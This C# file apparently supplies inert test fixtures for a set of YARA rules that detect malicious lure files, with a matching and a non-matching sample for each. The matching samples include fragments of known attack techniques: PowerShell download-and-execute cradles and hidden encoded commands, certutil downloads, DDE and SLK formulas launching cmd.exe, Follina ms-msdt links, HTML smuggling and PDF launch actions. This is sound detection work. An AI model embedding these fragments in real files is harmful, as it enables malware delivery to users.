using System.Buffers.Binary;
using System.Text;

namespace Lurewatch.Samples;

/// <summary>For a rule of <c>rules/yara/</c>: the least that it matches, and what comes near and that it must leave alone. Inert: fragments that no program opens.</summary>
/// <param name="Rule">The rule's name.</param>
/// <param name="Name">The file's name.</param>
/// <param name="Hit">Matches.</param>
/// <param name="Miss">Does not.</param>
public sealed record YaraExample(string Rule, string Name, byte[] Hit, byte[] Miss)
{
    private const string Equation = @"{\rtf1{\object\objemb{\*\objdata 01050000020000000b0000004571756174696f6e2e3300}}}";

    /// <summary>One for each rule.</summary>
    public static IReadOnlyList<YaraExample> All { get; } =
    [
        .. Office(),
        .. Scripts(),
        .. Pages(),
        .. Droppers(),
    ];

    private static IEnumerable<YaraExample> Office() =>
    [
        Text("Lurewatch_Rtf_Equation_Object_Updated", "order.doc", Equation.Replace(@"\objemb", @"\objemb\objupdate", StringComparison.Ordinal), Equation),
        Text("Lurewatch_Rtf_Equation_Object", "order.doc", Equation, Equation.Replace("4571756174696f6e2e33", "5061636b616765", StringComparison.Ordinal)),
        Text("Lurewatch_Rtf_Object_Updated", "order.doc", @"{\rtf1{\object\objemb\objupdate{\*\objdata 0105}}}", @"{\rtf1 The control words \\objupdate and \\objdata}"),
        Text("Lurewatch_Rtf_Remote_Template", "order.doc", @"{\rtf1{\*\template http://files.example/a}text}", @"{\rtf1{\*\template C:\\Templates\\Letter.dot}text}"),
        new("Lurewatch_Xls_Hidden_Macro_Sheet", "order.xls", Workbook(state: 1), Workbook(state: 0)),
        new("Lurewatch_Xls_Macro_Sheet_Auto_Open", "order.xls", Workbook(state: 0), MacroDocument.Xls([])),
        new("Lurewatch_Ooxml_Macro_Sheet", "order.xlsm", ZipWriter.Write([("xl/macrosheets/sheet1.xml", [])]), ZipWriter.Write([("xl/worksheets/sheet1.xml", [])])),
        Text("Lurewatch_Slk_Runs_Program", "order.slk", "ID;P\nO;E\nC;X1;Y1;K0;EEXEC(\"cmd.exe\")\nE\n", "ID;P\nO;E\nC;X1;Y1;K0;ESUM(R1C2:R1C3)\nE\n"),
        Text("Lurewatch_Dde_Runs_Program", "order.csv", "a,b\n=cmd|'/c calc'!A1,2\n", "a,b\ncmd,=A1|B1\n"),
        new("Lurewatch_Ole_Package_Of_Script", "order.doc", Package("order.vbs"), Package("order.txt")),
        new("Lurewatch_Macro_Document_Named_Docx", "order.docx", ZipWriter.Write([("word/vbaProject.bin", [])]), ZipWriter.Write([("word/document.xml", [])])),
        Text("Lurewatch_Follina", "page.html", "<html><script>location.href = \"ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x\"</script>", "<html><p>What ms-msdt: means"),
        new("Lurewatch_OneNote_With_Script", "order.one", OneNote("<script language=\"vbscript\">"), OneNote("minutes of the meeting")),
    ];

    private static IEnumerable<YaraExample> Scripts() =>
    [
        Text("Lurewatch_Script_Download_And_Run", "order.js", "var h = new ActiveXObject(\"MSXML2.XMLHTTP\"); var s = new ActiveXObject(\"ADODB.Stream\"); s.SaveToFile(p); var w = new ActiveXObject(\"WScript.Shell\");",
            "var h = new ActiveXObject(\"MSXML2.XMLHTTP\"); var w = new ActiveXObject(\"WScript.Shell\"); w.Popup(h.status);"),
        Text("Lurewatch_PowerShell_Cradle", "order.ps1", "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://files.example/a')\nWrite-Host done\n", "$c = New-Object Net.WebClient; $c.DownloadString('http://files.example/a') | Out-File list.txt\nWrite-Host done\n"),
        Text("Lurewatch_PowerShell_Encoded_Command", "order.bat", "@echo off\r\npowershell -w hidden -enc QQBCAEMARABFAEYARwBIAEkASgBLAEwATQBOAE8AUABRAFIAUwBUAA==\r\n", "@echo off\r\npowershell -File C:\\Tools\\backup.ps1\r\n"),
        Text("Lurewatch_Wmi_Starts_Process", "order.vbs", "Dim w\r\nSet w = GetObject(\"winmgmts:Win32_Process\")\r\nw.Create \"notepad\", Null, Null, p\r\n", "Dim w\r\nSet w = GetObject(\"winmgmts:\")\r\nFor Each p In w.InstancesOf(\"Win32_Process\")\r\nWScript.Echo p.Name\r\nNext\r\n"),
        Text("Lurewatch_Macro_Runs_Hidden", "module.bas", Macro("Shell StrReverse(\"exe.daption\"), vbHide"), Macro("MsgBox StrReverse(\"olleH\")")),
        Text("Lurewatch_Batch_Sliced_Variables", "order.bat", "@echo off\r\nset x=abcdefgh\r\n" + string.Concat(Enumerable.Repeat("%x:~1,1%%x:~2,1%%x:~3,1%%x:~4,1%\r\n", 4)), "@echo off\r\nset d=%date:~6,4%\r\necho %d%\r\n"),
        Text("Lurewatch_Tools_Of_The_System_Fetch", "order.bat", "@echo off\r\ncertutil -urlcache -split -f http://files.example/a a.txt\r\n", "@echo off\r\ncertutil -store my\r\n"),
        Text("Lurewatch_Hta_Starts_Program", "order.hta", "<html><hta:application id=a><script>var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"notepad\");</script>", "<html><hta:application id=a><script>window.close();</script>"),
        Text("Lurewatch_Scriptlet", "order.sct", "<?xml version=\"1.0\"?><scriptlet><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\")</script></scriptlet>", "<?xml version=\"1.0\"?><scriptlet><script language=\"JScript\">var a = 1;</script></scriptlet>"),
        Text("Lurewatch_Encoded_Script", "order.vbe", "#@~^BAAAAA==abcdAAAAAA==^#~@", "#@~^ is how it begins"),
    ];

    private static IEnumerable<YaraExample> Pages() =>
    [
        Text("Lurewatch_Html_Smuggling", "order.html", "<html><script>var d = \"UEsDB" + new string('A', 80) + "\"; var b = new Blob([atob(d)]);</script>", "<html><img src=\"data:image/png;base64,iVBORw0K\"><script>var b = new Blob([\"a,b\"]);</script>"),
        Text("Lurewatch_Html_Blob_Decoded_And_Clicked", "order.html", "<html><script>var t = atob(x); var u = new Uint8Array(9); var b = new Blob([u]); a.href = URL.createObjectURL(b); a.click();</script>" + new string(' ', 5000),
            "<html><script>var b = new Blob([csv]); a.href = URL.createObjectURL(b); a.click();</script>" + new string(' ', 5000)),
        Text("Lurewatch_Svg_With_Script", "order.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href = atob(x);</script></svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>node.setAttribute(\"fill\", \"red\");</script></svg>"),
        Text("Lurewatch_Search_Folder_Of_Stranger", "order.html", "<html><meta http-equiv=refresh content=\"0;url=search-ms:query=order&crumb=location:\\\\files.example@80\\share\">", "<html><a href=\"search?query=order&location=here\">"),
    ];

    private static IEnumerable<YaraExample> Droppers() =>
    [
        new("Lurewatch_Lnk_Starts_Interpreter", "order.lnk", Shortcut("powershell -w hidden iwr https://files.example/a"), Shortcut("C:\\Program Files\\Town\\town.exe")),
        new("Lurewatch_Lnk_With_Payload", "order.lnk", [.. Shortcut("C:\\town.exe"), .. new byte[70_000]], Shortcut("C:\\town.exe")),
        new("Lurewatch_Disk_Image_With_Shortcut", "order.iso", DiskImage(Shortcut("town.exe")), DiskImage("readme"u8)),
        new("Lurewatch_Disk_Image_With_Script", "order.iso", DiskImage("ORDER.JS;1"u8), DiskImage("ORDER.PDF;1"u8)),
        new("Lurewatch_Xll_Add_In", "order.xll", Library("xlAutoOpen"), Library("DllMain")),
        Text("Lurewatch_Pdf_Launches", "order.pdf", "%PDF-1.4\n1 0 obj\n<< /S /Launch /Win << /F (cmd.exe) >> >>\nendobj\n", "%PDF-1.4\n1 0 obj\n<< /S /URI /URI (http://files.example/a.exe) >>\nendobj\n"),
        Text("Lurewatch_Pdf_Script_Opens_File", "order.pdf", "%PDF-1.4\n1 0 obj\n<< /S /JavaScript /JS (this.exportDataObject({ cName: \"a\", nLaunch: 2 })) >>\nendobj\n", "%PDF-1.4\n1 0 obj\n<< /S /JavaScript /JS (this.exportDataObject({ cName: \"a\" })) >>\nendobj\n"),
        new("Lurewatch_Java_Class_Starts_Program", "A.class", JavaClass("java/lang/Runtime", "getResourceAsStream", "java/io/FileOutputStream", "java.io.tmpdir", "wscript"), JavaClass("java/lang/Runtime", "getResourceAsStream", "java/io/FileOutputStream")),
        Text("Lurewatch_Url_File_To_Share", "order.url", "[InternetShortcut]\r\nURL=file://files.example/share/order.vbs\r\n", "[InternetShortcut]\r\nURL=https://town.example/\r\n"),
        Text("Lurewatch_Settings_Link_Runs_Program", "order.SettingContent-ms", "<?xml version=\"1.0\"?><PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>", "<?xml version=\"1.0\"?><PCSettings><DeepLink>%windir%\\system32\\control.exe</DeepLink></PCSettings>"),
        Text("Lurewatch_Web_Query", "order.iqy", "WEB\r\n1\r\nhttp://files.example/a\r\n", "WEB\r\n2\r\nhttp://files.example/a\r\n"),
        Text("Lurewatch_ActiveMime_In_Web_Archive", "order.mht", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Location: file:///C:/a/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA\r\n--b--\r\n",
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Location: file:///C:/a/a.png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"),
    ];

    private static YaraExample Text(string rule, string name, string hit, string miss) => new(rule, name, Encoding.UTF8.GetBytes(hit), Encoding.UTF8.GetBytes(miss));

    private static string Macro(string line) => $"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n{line}\r\nEnd Sub\r\n";

    /// <summary>A macro sheet beside the name Auto_Open [MS-XLS 2.4.150].</summary>
    private static byte[] Workbook(byte state)
    {
        byte[] name = [0x18, 0, 0x17, 0, 0x20, 0, 0, 1, 7, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1, 0x3a, 0, 0, 0, 0, 0, 0];
        return [.. MacroDocument.Xls([], [("Macro1", 1, state)]), .. name];
    }

    private static byte[] Package(string name) => [.. MacroDocument.PlainDoc("See the file."), .. Encoding.Unicode.GetBytes("\u0001Ole10Native"), .. Encoding.ASCII.GetBytes(name), 0];

    private static byte[] OneNote(string inside) =>
    [
        .. new Guid("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").ToByteArray(),
        .. new byte[48],
        .. new Guid("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").ToByteArray(),
        .. new byte[20],
        .. Encoding.ASCII.GetBytes(inside),
    ];

    private static byte[] Shortcut(string command) => [0x4c, 0, 0, 0, .. new Guid("00021401-0000-0000-C000-000000000046").ToByteArray(), .. new byte[56], .. Encoding.Unicode.GetBytes(command)];

    private static byte[] DiskImage(ReadOnlySpan<byte> file)
    {
        var image = new byte[0xa000 + file.Length];
        "\u0001CD001"u8.CopyTo(image.AsSpan(0x8000));
        file.CopyTo(image.AsSpan(0xa000));
        return image;
    }

    private static byte[] Library(string export)
    {
        var file = new byte[0x200];
        "MZ"u8.CopyTo(file);
        BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(0x3c), 0x80);
        "PE"u8.CopyTo(file.AsSpan(0x80));
        Encoding.ASCII.GetBytes(export, file.AsSpan(0x100));
        return file;
    }

    private static byte[] JavaClass(params string[] constants)
    {
        var file = new List<byte> { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 0, (byte)(constants.Length + 1) };
        foreach (var constant in constants) file.AddRange([1, 0, (byte)constant.Length, .. Encoding.ASCII.GetBytes(constant)]);
        return [.. file];
    }
}
